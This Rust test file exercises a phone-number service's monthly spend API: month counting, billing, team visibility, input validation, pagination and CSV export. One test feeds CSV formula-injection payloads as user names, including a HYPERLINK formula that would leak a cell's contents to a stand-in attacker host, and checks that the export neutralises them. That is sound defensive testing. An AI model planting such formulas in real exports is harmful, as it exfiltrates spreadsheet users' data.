//! What a month cost: each number once, for whom held it first, at the price last in force.

use std::time::Duration;

use numberdesk::domain::time::Timestamp;
use serde_json::{Value, json};

use crate::support::database::{Database, on_both_stores};
use crate::support::eventually;
use crate::support::personas::{ALICE, BOB, DORA, LENA, OLGA, Persona};
use crate::support::response::ApiResponse;
use crate::support::server::{TestConfig, TestServer, send, text};
use crate::support::snapshot;

on_both_stores! {
    a_number_counts_in_each_month_in_which_it_was_held_and_in_no_other,
    what_close_billed_replaces_the_estimate,
    a_number_that_moves_counts_once_for_whom_it_was_first,
    who_ordered_is_told_and_nobody_for_what_was_adopted,
    countries_are_told_apart_and_sorted,
    no_cell_of_the_file_is_taken_for_a_formula,
    nobody_sees_what_another_team_spent,
    wrong_questions_are_told_what_would_be_right,
    the_present_month_costs_what_is_held_when_nothing_left,
    entries_are_read_over_many_pages,
}

const SPENDING: &str = "numbers:read numbers:rent numbers:update numbers:release spend:read";
const OLA: Persona = OLGA.with("numbers:read numbers:admin spend:read");
/// The month to which [`rewound`] moves everything.
const THEN: &str = "2026-03";

/// Everything that happened so far happened at noon of the tenth of March.
async fn rewound(database: &Database) {
    let noon: Timestamp = "2026-03-10T12:00:00Z".parse().unwrap();
    database
        .execute(&format!(
            "UPDATE ledger SET at = {}, counted = NULL WHERE at > {0}",
            noon.as_micros()
        ))
        .await;
}

async fn spend(server: &TestServer, person: &Persona, month: &str, by: &str) -> Value {
    server
        .get(person, &format!("/v1/spend?month={month}&group_by={by}"))
        .await
        .expect(200)
}

/// Key, numbers and amount of each group.
fn groups(answer: &Value) -> Vec<(Value, u64, String)> {
    let by = text(&answer["group_by"]);
    let groups = answer["data"].as_array().expect("there is data").iter();
    groups
        .map(|group| {
            let numbers = group["numbers"].as_u64().expect("a count");
            (group[&by].clone(), numbers, text(&group["amount"]))
        })
        .collect()
}

fn group(key: impl Into<Value>, numbers: u64, amount: &str) -> (Value, u64, String) {
    (key.into(), numbers, amount.to_owned())
}

async fn moves(server: &TestServer, number: &str, team: &str) {
    let path = format!("/v1/phone-numbers/{number}/team");
    send(
        server
            .request_as(&OLGA, "PUT", &path)
            .json(&json!({ "team": team })),
    )
    .await
    .expect(200);
}

async fn a_number_counts_in_each_month_in_which_it_was_held_and_in_no_other(database: Database) {
    let server = TestServer::new(database.clone()).await;
    let number = server.rent(&ALICE, "kept", "DE").await;
    let released = server.rent(&ALICE, "released", "FR").await;
    server.release(&ALICE, &released).await.empty(204);
    rewound(&database).await;
    let then = spend(&server, &OLA, THEN, "team").await;
    snapshot::assert_json("views/spend", &then);
    assert_eq!(groups(&spend(&server, &OLA, "2026-02", "team").await), []);
    for month in ["2026-04", "2026-11"] {
        let later = spend(&server, &OLA, month, "team").await;
        assert_eq!(groups(&later), [group("sales", 1, "5.00")], "{month}");
    }
    // Nobody holds anything in a month that has not begun.
    assert_eq!(groups(&spend(&server, &OLA, "9998-12", "team").await), []);
    // A month later it is released, too: the month still counts.
    server.release(&ALICE, &number).await.empty(204);
    let april: Timestamp = "2026-04-01T00:00:00Z".parse().unwrap();
    let moved = format!(
        "UPDATE ledger SET at = {0}, counted = NULL WHERE at > {0}",
        april.as_micros()
    );
    database.execute(&moved).await;
    for (month, numbers) in [(THEN, 2), ("2026-04", 1), ("2026-05", 0)] {
        let total = &spend(&server, &OLA, month, "team").await["total"];
        assert_eq!(total["numbers"], numbers, "{month}: {total}");
    }
}

async fn what_close_billed_replaces_the_estimate(database: Database) {
    let config = TestConfig {
        full_sync: "1s",
        ..TestConfig::default()
    };
    let server = TestServer::with(database.clone(), config).await;
    let person = ALICE.with(SPENDING);
    server.close.set(json!({ "billing_delay": null })).await;
    server.rent(&person, "one", "DE").await;
    let month = this_month(&database).await;
    let estimated = spend(&server, &person, &month, "team").await;
    assert_eq!(groups(&estimated), [group("sales", 1, "5.00")]);
    server.close.set(json!({ "billing_delay": "0s" })).await;
    server.rent(&person, "two", "DE").await;
    eventually("Close has billed", || async {
        let billed = spend(&server, &person, &month, "team").await;
        let me = server.get(&person, "/v1/me").await.expect(200);
        let held = text(&me["teams"][0]["usage"]["monthly_held"]);
        (held == "2.30" && groups(&billed) == [group("sales", 2, "2.30")]).then_some(())
    })
    .await;
}

/// The month in which something was booked last.
async fn this_month(database: &Database) -> String {
    let at = database.query_integer("SELECT MAX(at) FROM ledger").await;
    Timestamp::from_micros(at).to_string()[..7].to_owned()
}

async fn a_number_that_moves_counts_once_for_whom_it_was_first(database: Database) {
    let server = TestServer::new(database.clone()).await;
    let number = server.rent(&ALICE, "one", "DE").await;
    moves(&server, &number, "support").await;
    rewound(&database).await;
    assert_eq!(
        groups(&spend(&server, &OLA, THEN, "team").await),
        [group("sales", 1, "5.00")]
    );
    assert_eq!(
        groups(&spend(&server, &OLA, "2026-04", "team").await),
        [group("support", 1, "5.00")]
    );
    // The receiving team does not see it in that month, although it has entries in it.
    let bob = BOB.with(SPENDING);
    assert_eq!(groups(&spend(&server, &bob, THEN, "team").await), []);
    let april = spend(&server, &bob, "2026-04", "user").await;
    // Nor who of the other team ordered it.
    assert_eq!(groups(&april), [group(Value::Null, 1, "5.00")]);
    let both = spend(&server, &DORA.with(SPENDING), "2026-04", "user").await;
    assert_eq!(groups(&both), [group("alice@example.com", 1, "5.00")]);
    let march = spend(&server, &ALICE.with(SPENDING), THEN, "user").await;
    assert_eq!(groups(&march), [group("alice@example.com", 1, "5.00")]);
}

async fn who_ordered_is_told_and_nobody_for_what_was_adopted(database: Database) {
    let config = TestConfig {
        full_sync: "1s",
        ..TestConfig::default()
    };
    let server = TestServer::with(database.clone(), config).await;
    server.rent(&ALICE, "one", "DE").await;
    server.rent(&ALICE, "two", "FR").await;
    server.rent(&LENA, "three", "FR").await;
    let orphan = text(&server.close.person_rents(json!({ "country": "DE" })).await["id"]);
    eventually("the desk knows the orphan", || async {
        let answer = server.get(&OLGA, &format!("/v1/phone-numbers/{orphan}")).await;
        (answer.status == 200).then_some(())
    })
    .await;
    let before = spend(&server, &OLA, &this_month(&database).await, "user").await;
    assert_eq!(before["total"]["numbers"], 3, "what nobody holds costs nobody");
    moves(&server, &orphan, "sales").await;
    let answer = spend(&server, &OLA, &this_month(&database).await, "user").await;
    let told: Vec<(Value, u64)> = groups(&answer)
        .into_iter()
        .map(|(key, numbers, _)| (key, numbers))
        .collect();
    assert_eq!(
        told,
        [
            (Value::Null, 1),
            (json!("alice@example.com"), 2),
            (json!("lena@example.com"), 1)
        ]
    );
}

async fn countries_are_told_apart_and_sorted(database: Database) {
    let server = TestServer::new(database.clone()).await;
    for (key, country) in [("one", "FR"), ("two", "DE"), ("three", "FR"), ("four", "AT")] {
        server.rent(&ALICE, key, country).await;
    }
    let answer = spend(&server, &OLA, &this_month(&database).await, "country").await;
    assert_eq!(
        groups(&answer),
        [
            group("AT", 1, "4.00"),
            group("DE", 1, "5.00"),
            group("FR", 2, "8.00")
        ]
    );
    assert_eq!(answer["total"], json!({ "numbers": 4, "amount": "17.00" }));
}

async fn no_cell_of_the_file_is_taken_for_a_formula(database: Database) {
    let server = TestServer::new(database.clone()).await;
    let hostile = |name: &'static str| Persona { name, ..ALICE };
    for (place, name) in [
        "=HYPERLINK(\"https://evil.example.com/?x=\"&A1,\"ok\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "plain, with a comma",
    ]
    .into_iter()
    .enumerate()
    {
        server.rent(&hostile(name), &format!("key-{place}"), "DE").await;
    }
    let month = this_month(&database).await;
    let path = format!("/v1/spend?month={month}&group_by=user");
    let by_name = server.get(&OLA, &format!("{path}&format=csv")).await;
    assert_eq!(by_name.status, 200, "{by_name}");
    assert_eq!(
        by_name.header("content-type"),
        "text/csv; charset=utf-8; header=present"
    );
    assert_eq!(
        by_name.header("content-disposition"),
        format!("attachment; filename=\"spend-{month}-by-user.csv\"")
    );
    let expected = [
        "month,user,numbers,amount,currency".to_owned(),
        format!("{month},'+1,1,5.00,USD"),
        format!("{month},'-1,1,5.00,USD"),
        format!("{month},\"'=HYPERLINK(\"\"https://evil.example.com/?x=\"\"&A1,\"\"ok\"\")\",1,5.00,USD"),
        format!("{month},'@SUM(A1),1,5.00,USD"),
        format!("{month},\"plain, with a comma\",1,5.00,USD"),
    ];
    assert_eq!(by_name.text.lines().collect::<Vec<_>>(), expected);
    let accepted = send(server.request_as(&OLA, "GET", &path).header("Accept", "text/csv")).await;
    assert_eq!(accepted.text, by_name.text);
    // What is named in the query is meant; JSON has no formulas.
    let json = server.request_as(&OLA, "GET", &format!("{path}&format=json"));
    let json = send(json.header("Accept", "text/csv")).await.expect(200);
    assert!(json["data"].to_string().contains("\"=HYPERLINK"), "{json}");
}

async fn nobody_sees_what_another_team_spent(database: Database) {
    let server = TestServer::new(database.clone()).await;
    server.rent(&ALICE, "one", "DE").await;
    server.rent(&BOB, "two", "US").await;
    let month = this_month(&database).await;
    let (alice, bob, dora) = (ALICE.with(SPENDING), BOB.with(SPENDING), DORA.with(SPENDING));
    let (sales, support) = (group("sales", 1, "5.00"), group("support", 1, "4.00"));
    for (person, team, expected) in [
        (&alice, "", vec![sales.clone()]),
        (&alice, "&team=sales", vec![sales.clone()]),
        (&bob, "", vec![support.clone()]),
        (&dora, "", vec![sales.clone(), support.clone()]),
        (&dora, "&team=support", vec![support.clone()]),
        (&dora.of(&[]), "", vec![]),
        (&OLA, "", vec![sales, support.clone()]),
        (&OLA, "&team=support", vec![support]),
    ] {
        let answer = spend(&server, person, &format!("{month}{team}"), "team").await;
        assert_eq!(groups(&answer), expected, "{} {team}", person.name);
    }
    for by in ["country", "user"] {
        let answer = spend(&server, &bob, &month, by).await;
        assert_eq!(answer["total"], json!({ "numbers": 1, "amount": "4.00" }), "{by}");
    }
    let foreign = server
        .get(&alice, &format!("/v1/spend?month={month}&team=support"))
        .await;
    let unknown = server
        .get(&alice, &format!("/v1/spend?month={month}&team=no-such-team"))
        .await;
    foreign.problem(404, "not-found");
    crate::support::response::assert_indistinguishable(&foreign, &unknown);
    let missing = server.get(&ALICE, &format!("/v1/spend?month={month}")).await;
    assert_eq!(missing.problem(403, "permission-missing")["need"], "spend:read");
}

async fn wrong_questions_are_told_what_would_be_right(database: Database) {
    let server = TestServer::new(database).await;
    let pointer =
        |answer: &ApiResponse| text(&answer.problem(400, "invalid-request")["errors"][0]["pointer"]);
    for month in [
        "",
        "2026",
        "2026-13",
        "2026-1",
        "26-01",
        "2026-11-01",
        "1969-12",
        "november",
        "%00",
    ] {
        let answer = server.get(&OLA, &format!("/v1/spend?month={month}")).await;
        assert_eq!(pointer(&answer), "/query/month", "{month}");
    }
    let answer = server.get(&OLA, "/v1/spend").await;
    assert_eq!(pointer(&answer), "/query", "{answer}");
    assert!(answer.text.contains("`month` is required"), "{answer}");
    for (query, place) in [
        ("group_by=colour", "/query/group_by"),
        ("format=xml", "/query/format"),
        ("team=a%20b", "/query/team"),
        ("limit=5", "/query/limit"),
    ] {
        let answer = server
            .get(&OLA, &format!("/v1/spend?month=2026-11&{query}"))
            .await;
        assert_eq!(pointer(&answer), place);
    }
}

async fn the_present_month_costs_what_is_held_when_nothing_left(database: Database) {
    let server = TestServer::new(database.clone()).await;
    for place in 0..4 {
        server.rent(&ALICE, &format!("a-{place}"), "FR").await;
        server.rent(&BOB, &format!("b-{place}"), "DE").await;
    }
    let number = server.rent(&ALICE, "moved", "DE").await;
    moves(&server, &number, "support").await;
    let answer = spend(&server, &OLA, &this_month(&database).await, "team").await;
    let held = database
        .query_integer("SELECT CAST(SUM(monthly_held) AS BIGINT) FROM usage")
        .await;
    assert_eq!(
        text(&answer["total"]["amount"]).replace('.', "").parse(),
        Ok(held)
    );
    assert_eq!(answer["total"]["numbers"], 9);
}

async fn entries_are_read_over_many_pages(database: Database) {
    let server = TestServer::new(database.clone()).await;
    let noon: Timestamp = "2026-03-10T12:00:00Z".parse().unwrap();
    // One number with more entries than fit a page, and many with one or two.
    let numbers = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1500) \
        INSERT INTO ledger (id, at, team, phone_number_id, kind, numbers_held, numbers_reserved, monthly_held, monthly_reserved)";
    let at = noon.plus(Duration::from_secs(1)).as_micros();
    database
        .execute(&format!(
            "{numbers} SELECT 'led_' || CAST(100000 + i AS TEXT), {at}, 'sales', 'phon_' || CAST(100000 + i AS TEXT), \
                'hold', 1, 0, 115, 0 FROM n; \
             {numbers} SELECT 'led_' || CAST(200000 + i AS TEXT), {at}, 'sales', 'phon_100500', 'true_up', 0, 0, 1, 0 FROM n"
        ))
        .await;
    let answer = spend(&server, &OLA, THEN, "team").await;
    assert_eq!(groups(&answer), [group("sales", 1_500, "1740.00")]);
}
